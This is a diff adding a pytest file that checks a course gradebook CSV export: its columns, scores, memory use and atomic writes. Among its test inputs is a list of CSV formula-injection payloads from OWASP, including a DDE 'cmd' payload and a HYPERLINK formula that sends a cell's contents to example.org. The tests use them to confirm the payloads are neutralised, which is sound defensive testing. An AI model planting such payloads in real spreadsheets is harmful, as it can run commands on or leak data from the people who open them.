@@ -1,0 +1,119 @@
+"""The gradebook: its columns, its numbers, and that no name becomes a formula."""
+
+import csv
+import itertools
+import tracemalloc
+
+import pytest
+
+from mlt_nn.catalogue import EXERCISES
+from mlt_nn.classroom import gradebook
+
+from .classes import HOSTILE, grade, record, ungraded
+
+BEST = sum(exercise.points for exercise in EXERCISES)
+
+
+def read(path):
+    with open(path, encoding="utf-8-sig", newline="") as stream:
+        return list(csv.DictReader(stream))
+
+
+@pytest.fixture
+def rows_of(tmp_path):
+    """The rows of the gradebook of these records, as dicts."""
+
+    def rows(*records):
+        gradebook.write(tmp_path / "gradebook.csv", records)
+        return read(tmp_path / "gradebook.csv")
+
+    return rows
+
+
+def test_the_columns_are_those_of_nbgrader_and_one_for_each_exercise(tmp_path):
+    gradebook.write(tmp_path / "gradebook.csv", [])
+    data = (tmp_path / "gradebook.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfassignment,"), "a spreadsheet needs the mark to know that this is UTF-8"
+    head = "assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,late_submission_penalty,score,"
+    exercises = ",".join(exercise.name for exercise in EXERCISES)
+    assert data.decode("utf-8-sig") == f"{head}max_score,{exercises}\r\n"
+
+
+def test_points_are_numbers(rows_of):
+    (row,) = rows_of(record("Zoë Ångström", grade({"losses.one_hot": {"share": 0.75}})))
+    assert (row["student_id"], row["timestamp"]) == ("Zoë Ångström", "2026-11-24 10:00")
+    assert float(row["losses.one_hot"]) == 1.5
+    assert float(row["raw_score"]) == float(row["score"]) == BEST - 0.5
+    assert float(row["max_score"]) == BEST
+    assert float(row["late_submission_penalty"]) == 0
+
+
+def test_what_is_open_is_empty_and_never_zero(rows_of):
+    broken = grade({"losses.one_hot": {"state": "broken"}})
+    lost, ours = rows_of(ungraded("infrastructure error"), record(graded=broken))
+    numbers = ["raw_score", "late_submission_penalty", "score"]
+    assert {lost[name] for name in [*numbers, *(exercise.name for exercise in EXERCISES)]} == {""}
+    assert [ours[name] for name in [*numbers, "losses.one_hot"]] == [""] * 4
+    assert float(ours["losses.squared_error"]) == 2
+
+
+@pytest.mark.parametrize("status", ["student error", "timed out"])
+def test_what_a_student_handed_in_wrong_is_zero(rows_of, status):
+    (row,) = rows_of(ungraded(status))
+    assert float(row["score"]) == float(row["neuron.neuron"]) == 0
+
+
+# The first three characters and the last two lines are those of OWASP's page on CSV injection.
+NAMES = [
+    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "\u200b=1"),
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org?x="&A1,"click")',
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_no_name_becomes_a_formula(rows_of, name):
+    row_of_name, row_of_time = rows_of(record(name, grade()), record(when=name, graded=grade()))
+    for cell in (row_of_name["student_id"], row_of_time["timestamp"]):
+        assert cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+        assert name.strip().lstrip("\u200b") in cell, "the name is still there"
+
+
+def test_hostile_names_stay_in_their_cell(rows_of):
+    names = ["a,b", 'a"b', "a\r\nb", "a;b\tc", HOSTILE, "O'Neill", "李小龍"]
+    rows = rows_of(*(record(name, grade()) for name in names))
+    assert len(rows) == len(names)
+    assert [row["student_id"] for row in rows[:4]] == ["a,b", 'a"b', "a b", "a;b c"]
+    assert rows[5]["student_id"] == "O'Neill"
+    assert {float(row["score"]) for row in rows} == {BEST}
+
+
+def test_memory_does_not_grow_with_the_class(tmp_path):
+    graded = grade()
+
+    def peak(students):
+        tracemalloc.start()
+        gradebook.write(tmp_path / "gradebook.csv", (record(f"s{i}", graded) for i in range(students)))
+        try:
+            return tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+
+    peak(1)  # what is loaded once
+    # A row is about 200 bytes: were they kept, 2,000 of them would take 400 kB more.
+    assert peak(2_100) - peak(100) < 100_000
+
+
+def test_a_gradebook_is_replaced_as_a_whole_or_not_at_all(tmp_path):
+    path = tmp_path / "gradebook.csv"
+    gradebook.write(path, [record(graded=grade())])
+    before = path.read_bytes()
+
+    def records():
+        yield from itertools.repeat(record(graded=grade()), 500)
+        raise RuntimeError("the disk is full")
+
+    with pytest.raises(RuntimeError, match="the disk is full"):
+        gradebook.write(path, records())
+    assert path.read_bytes() == before
+    assert list(tmp_path.iterdir()) == [path]
